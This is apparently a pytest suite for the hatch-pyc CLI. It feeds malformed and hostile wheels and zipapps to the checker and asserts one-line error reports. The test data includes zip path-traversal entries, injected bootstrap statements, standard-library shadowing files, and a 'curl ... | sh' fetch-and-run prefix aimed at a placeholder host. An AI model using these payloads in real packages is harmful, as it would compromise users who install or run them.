"""Hostile wheels made in memory, fed to ``cli.main`` in-process: each answered with its exit
code and its lines, never a traceback. (The corpus made from real builds, fed to every command
and to installs, is ``tests/e2e/test_hostile.py``.)"""

from __future__ import annotations

import io
import json
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from inmemory import DIST, HERE, NAME, SOURCE, WHEEL, bootstrap_of, bundle, meta, pyc, run_cli, sourceless, write

from hatch_pyc import cli
from hatch_pyc.build import bytecode_metadata


def _with(**changes: bytes | None) -> Callable[[], dict[str, bytes]]:
    def make() -> dict[str, bytes]:
        entries = sourceless()
        for key, value in changes.items():
            name = {
                "core": "demo/core.pyc",
                "init": "demo/__init__.pyc",
                "wheel": f"{DIST}/WHEEL",
                "meta": f"{DIST}/{bytecode_metadata.METADATA_PATH}",
                "metadata": f"{DIST}/METADATA",
            }[key]
            if value is None:
                del entries[name]
            else:
                entries[name] = value
        return entries

    return make


def test_the_wheel_made_in_memory_checks_fine(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    wheel = write(tmp_path / NAME, sourceless())
    code, out, err = run_cli(capsys, "check", str(wheel))
    assert (code, err) == (0, "")
    assert out.startswith(f"ok: {NAME} fits {HERE.implementation} {HERE.version}")


#: ``(label, entries, exit status, a piece of the output)``: content problems are listed (1).
MISMATCHES = [
    ("a pyc for another interpreter", _with(core=pyc(SOURCE, b"\x00\x00\r\n")), "magic number 00000d0a, but"),
    ("a pyc that is no bytecode", _with(core=b"\x00" * 8), "demo/core.pyc: not valid bytecode"),
    ("a pyc with garbage code", _with(core=pyc(SOURCE)[:16] + b"\xe3garbage"), "demo/core.pyc: not valid bytecode"),
    ("a truncated pyc", _with(core=pyc(SOURCE)[:-7]), "demo/core.pyc: not valid bytecode"),
    ("a wrong tag", _with(wheel=WHEEL.replace(HERE.python_tag, "cp27").encode()), "WHEEL tags cp27-none-any differ"),
    ("an orphan __pycache__ pyc", lambda: {**sourceless(), "demo/__pycache__/x.cpython-311.pyc": b""}, "x.cpython"),
]


@pytest.mark.parametrize(("label", "entries", "says"), MISMATCHES, ids=[case[0] for case in MISMATCHES])
def test_content_that_does_not_fit_is_listed_one_line_each(
    label: str, entries: Callable[[], dict[str, bytes]], says: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run_cli(capsys, "check", str(write(tmp_path / NAME, entries())))
    assert code == 1, (out, err)
    assert says in out
    assert all(line.startswith(f"{NAME}: ") for line in out.splitlines())
    assert "Traceback" not in out + err


def _raw(entries: list[tuple[str | zipfile.ZipInfo, bytes]]) -> Callable[[Path], None]:
    def make(target: Path) -> None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as zf, warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns of the duplicate it is asked to write
            for name, data in entries:
                zf.writestr(name, data)
        target.write_bytes(buffer.getvalue())

    return make


def _entries_then(change: Callable[[dict[str, bytes]], None], record: bool = True) -> Callable[[Path], None]:
    def make(target: Path) -> None:
        entries = sourceless()
        change(entries)
        write(target, entries, record)

    return make


#: ``(label, make the file, a piece of the one line)``: unusable artifacts (2).
UNUSABLE = [
    ("not a zip", lambda target: target.write_bytes(b"PK\x03\x04 not really"), "not a readable zip archive"),
    ("an empty file", lambda target: target.write_bytes(b""), "not a readable zip archive"),
    ("a truncated zip", lambda target: (write(target, sourceless()), target.write_bytes(target.read_bytes()[:-30])),
     "not a readable zip archive"),
    ("an entry escaping with ..", _raw([("../evil.py", b"")]), "unsafe entry '../evil.py'"),
    ("an absolute entry", _raw([("/etc/evil", b"")]), "unsafe entry '/etc/evil'"),
    ("a backslash entry", _raw([("demo\\core.py", b"")]), "absolute, empty, or with a backslash"),
    ("a control character", _raw([("demo/\x1b[2Jcore.py", b"")]), "demo/\\x1b[2Jcore.py"),
    ("a bidi control", _raw([("demo/\u202ecore.py", b"")]), "demo/\\u202ecore.py"),
    ("an alternate data stream", _raw([("zz.pth::$DATA", b"")]), "unsafe entry 'zz.pth::$DATA' (a ':', which Windows"),
    ("a Windows short name", _raw([("demo/CORE_M~1.PY", b"")]), "shaped like a Windows short name"),
    ("an entry twice", _raw([("demo/a.py", b""), ("demo/a.py", b"x")]), "an entry appears twice"),
    ("no dist-info", _raw([("demo/a.py", b"")]), "expected one .dist-info directory, found 0"),
    ("two dist-infos", _raw([(f"{DIST}/WHEEL", b""), ("other-1.0.dist-info/WHEEL", b"")]),
     "expected one .dist-info directory, found 2"),
    ("a dist-info of another project", _raw([("other-1.0.dist-info/WHEEL", b"")]),
     "its .dist-info directory other-1.0.dist-info is not demo-pkg 0.1.0's"),
    ("no RECORD", _entries_then(lambda entries: None, record=False), f"{DIST}/RECORD is missing"),
    ("no WHEEL", _entries_then(lambda entries: entries.pop(f"{DIST}/WHEEL")), f"{DIST}/WHEEL is missing"),
    ("no METADATA", _entries_then(lambda entries: entries.pop(f"{DIST}/METADATA")), f"{DIST}/METADATA is missing"),
    ("WHEEL version 2", _entries_then(lambda entries: entries.update({f"{DIST}/WHEEL": WHEEL.replace("1.0", "2.0")
     .encode()})), "hatch-pyc reads version 1.x only"),
    ("WHEEL not UTF-8", _entries_then(lambda entries: entries.update({f"{DIST}/WHEEL": b"\xff\xfe"})), "is not UTF-8"),
    ("bytecode metadata not JSON", _entries_then(lambda entries: entries.update(
        {f"{DIST}/{bytecode_metadata.METADATA_PATH}": b"{"})), "is not valid bytecode metadata"),
    ("bytecode metadata of a future format", _entries_then(lambda entries: entries.update(
        {f"{DIST}/{bytecode_metadata.METADATA_PATH}": json.dumps({**json.loads(meta("zip")), "format": 9}).encode()})),
     "format 9; this hatch-pyc reads format 1"),
]  # fmt: skip


@pytest.mark.parametrize(("label", "make", "says"), UNUSABLE, ids=[case[0] for case in UNUSABLE])
@pytest.mark.parametrize("command", ["check", "inspect"])
def test_unusable_artifacts_are_one_line_and_exit_2(
    command: str,
    label: str,
    make: Callable[[Path], None],
    says: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    target = tmp_path / NAME
    make(target)
    code, out, err = run_cli(capsys, command, str(target))
    assert (code, out) == (2, "")
    assert err.count("\n") == 1, err
    assert err.startswith(f"hatch-pyc: {target}: ")
    assert says in err


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("demo.zip", "not a wheel (.whl) or zipapp (.pyz)"),
        ("demo_pkg-0.1.0.whl", "Invalid wheel filename"),
        ("missing-1.0-py3-none-any.whl", "no such file"),
    ],
)
def test_files_that_are_no_artifact(name: str, says: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / name
    if name != "missing-1.0-py3-none-any.whl":
        write(target, sourceless())
    code, out, err = run_cli(capsys, "check", str(target))
    assert (code, out) == (2, "")
    assert says in err
    assert err.count("\n") == 1


def test_record_damage_is_listed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    wheel = write(tmp_path / NAME, sourceless(), extra_record=b"demo/gone.py,sha256=x,1\n")
    code, out, _ = run_cli(capsys, "check", str(wheel))
    assert code == 1
    assert f"{NAME}: demo/gone.py: in RECORD but not in the wheel\n" in out


def test_json_output_is_one_document(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    wheel = write(tmp_path / NAME, _with(core=pyc(SOURCE, b"\x00\x00\r\n"))())
    code, out, _ = run_cli(capsys, "check", "--json", str(wheel))
    document = json.loads(out)
    assert code == 1
    assert document["ok"] is False
    assert document["inspection"]["layout"] == "sourceless"
    assert document["target"]["python_tag"] == HERE.python_tag


def test_inspect_describes_the_wheel(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run_cli(capsys, "inspect", str(write(tmp_path / NAME, sourceless())))
    assert code == 0
    assert "layout: sourceless\n" in out
    assert "pycs: 2\nsources: 0\n" in out


@pytest.mark.parametrize(
    ("argv", "says"),
    [
        (["convert", "x.whl", "--layout", "flat"], "--layout: must be one of 'alongside', 'sourceless', 'zip'"),
        (["convert", "x.whl", "--optimize", "3"], "--optimize: must be 0, 1, 2"),
        (["bundle", "x.whl", "--extension-modules", "keep"], "--extension-modules: must be one of 'extract'"),
        (["bundle", "x.whl", "--entry-point", "main()"], "--entry-point: must be 'module:function'"),
        (["bundle", "x.whl", "--jobs", "0"], "--jobs: must be a whole number of at least 1, got 0"),
        (["verify", "x.whl", "--source", "x.tar.gz"], "x.tar.gz: no such file"),
    ],
)
def test_commands_name_what_is_wrong_before_they_read_anything(
    argv: list[str], says: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run_cli(capsys, *argv)
    assert (code, out) == (2, "")
    assert says in err
    assert "Traceback" not in err


def test_verify_says_a_missing_source_is_missing_and_a_file_that_is_no_sdist_is_no_sdist(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    wheel = write(tmp_path / NAME, sourceless())
    missing = tmp_path / "missing.tar.gz"
    assert run_cli(capsys, "verify", str(wheel), "--source", str(missing)) == (
        2,
        "",
        f"hatch-pyc: {missing}: no such file\n",
    )
    assert run_cli(capsys, "verify", str(wheel), "--source", str(wheel)) == (
        2,
        "",
        f"hatch-pyc: {wheel}: not an sdist (.tar.gz) or a directory of sources\n",
    )


def test_usage_errors_and_version(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        cli.main(["check"])
    assert info.value.code == 2
    assert "the following arguments are required: artifact" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        cli.main(["--version"])
    assert capsys.readouterr().out.startswith("hatch-pyc ")


#: The one line for a ``__main__.py`` that is not what hatch-pyc writes.
NOT_OURS = "demo.pyz: __main__.py: not what hatch-pyc writes for these values: it runs at every start"


@pytest.mark.parametrize(
    ("main", "code", "says"),
    [
        (bootstrap_of(), 0, ""),
        (bootstrap_of("gone:main"), 1, "__main__.py runs gone, which the bundle does not hold"),
        (b"(" * 200_000, 1, "__main__.py is not valid Python"),
        (b"x = 1\0\n", 1, "__main__.py is not valid Python"),
        (b"x = " + b"-" * 100_000 + b"1\n", 1, "__main__.py is not valid Python"),
        (
            bootstrap_of(groups={"x": ("00", "1 x/y.pyc")}),
            1,
            "x/y.pyc: __main__.py extracts it at the first start, and the bundle lacks it",
        ),
        (
            bootstrap_of(groups={"demo": ("00", "many demo.pyc")}),
            1,
            "demo: __main__.py lists its files in no form the runtime reads",
        ),
        (
            bootstrap_of(groups={"demo": ("00", "1 demo/__init__.pyc")}),
            1,
            "demo: not the files __main__.py records (sizes and SHA-256): its first start would fail",
        ),
        (
            bootstrap_of(groups={}).replace(b"groups={}", b"groups=" + b"[" * 150 + b"]" * 150),
            1,
            NOT_OURS,
        ),
        (b"# " + b"x" * (1024 * 1024), 2, "more than 1048576 (a limit of hatch-pyc)"),
    ],
    ids=[
        "intact",
        "entry module missing",
        "nesting bomb",
        "NUL byte",
        "unary chain",
        "manifest names a missing file",
        "manifest in another form",
        "manifest with another digest",
        "nested manifest",
        "oversized",
    ],
)
def test_a_hostile_bootstrap_is_read_never_run_and_answered_in_one_line(
    main: bytes, code: int, says: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pyz = bundle(tmp_path / "demo.pyz", main)
    found, out, err = run_cli(capsys, "check", str(pyz))
    assert found == code, out + err
    assert says in (out + err)
    assert "Traceback" not in out + err


@pytest.mark.parametrize(
    ("main", "extra"),
    [
        (bootstrap_of().replace(b"import sys\n", b"import sys\nopen('/tmp/owned', 'w')\n", 1), {}),
        (bootstrap_of() + b"print('and more')\n", {}),
        (b"#!/usr/bin/env python3\n" + bootstrap_of(), {}),
        (bootstrap_of().replace(b"\n", b"\r\n"), {}),
        (bootstrap_of().replace(b"'demo:main'", b'"demo:main"'), {}),
        (bootstrap_of().replace(b"ENTRY = 'demo:main'", b"ENTRY = 'demo' + ':main'"), {}),
        (
            bootstrap_of(groups={"demo": ("00", "1 demo/__init__.pyc")}).replace(
                b"install(\n    label=BUNDLE,\n    digest='b',\n",
                b"install(\n    BUNDLE,\n    'b',\n",
            ),
            {},
        ),
        (
            b"import _hatch_pyc_runtime\n"
            b"_hatch_pyc_runtime.install('a', 'b', {'demo': ('00', '1 demo/__init__.pyc')}, {})\n"
            b"from demo import main\n",
            {},
        ),
        (bootstrap_of().replace(b"serve(dist_infos=[])", b"serve([])"), {}),
        (bootstrap_of().replace(b"from demo import main", b"from demo import main, os"), {}),
        (bootstrap_of() + b"import _hatch_pyc_index\n\n_hatch_pyc_index.serve(dist_infos=[])\n", {}),
        (bootstrap_of(), {"hashlib.py": b"open('/tmp/owned', 'w')\n"}),
        (bootstrap_of(), {"email/__init__.pyc": pyc(b""), "email/utils.pyc": pyc(b"")}),
        (bootstrap_of(), {"json.pyc": pyc(b"")}),
    ],
    ids=[
        "a statement added",
        "a statement appended",
        "a shebang line",
        "other line endings",
        "a value written otherwise",
        "a value that is no literal",
        "a positional call",
        "the old positional bootstrap",
        "a positional serve",
        "another name imported",
        "a call twice",
        "hashlib.py at the root",
        "a package named email",
        "json.pyc at the root",
    ],
)
def test_a_bundle_that_runs_more_than_hatch_pyc_wrote_is_one_problem(
    main: bytes, extra: dict[str, bytes], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pyz = bundle(tmp_path / "demo.pyz", main, extra)
    found, out, err = run_cli(capsys, "check", str(pyz))
    assert (found, err) == (1, ""), out
    (line,) = out.splitlines()
    if extra:
        module = next(iter(extra)).split("/")[0].split(".")[0]
        shadow = next(iter(extra))
        expected = f"demo.pyz: {shadow}: named as the standard library's {module}, which it replaces: the bundle"
        assert line.startswith(expected)
    else:
        assert line == NOT_OURS


@pytest.mark.parametrize(
    ("prefix", "code"),
    [
        (b"", 0),
        (b"#!/usr/bin/env python3 -I\n", 0),
        (b"#!/bin/sh\ncurl https://example.invalid | sh\nexit\n", 1),
        (b"#!/usr/bin/env python3\r\n", 1),
        (b"MZ\0\0", 1),
    ],
    ids=["none", "a #! line", "a shell script", "a CR", "no #!"],
)
def test_only_one_shebang_line_may_come_before_a_bundle(
    prefix: bytes, code: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pyz = bundle(tmp_path / "demo.pyz", bootstrap_of())
    pyz.write_bytes(prefix + pyz.read_bytes())
    found, out, err = run_cli(capsys, "check", str(pyz))
    assert (found, err) == (code, ""), out
    if code:
        (line,) = out.splitlines()
        assert line == (
            f"demo.pyz: {len(prefix)} bytes before the archive, not one #! line as hatch-pyc writes: "
            "`./demo.pyz` would run them"
        )
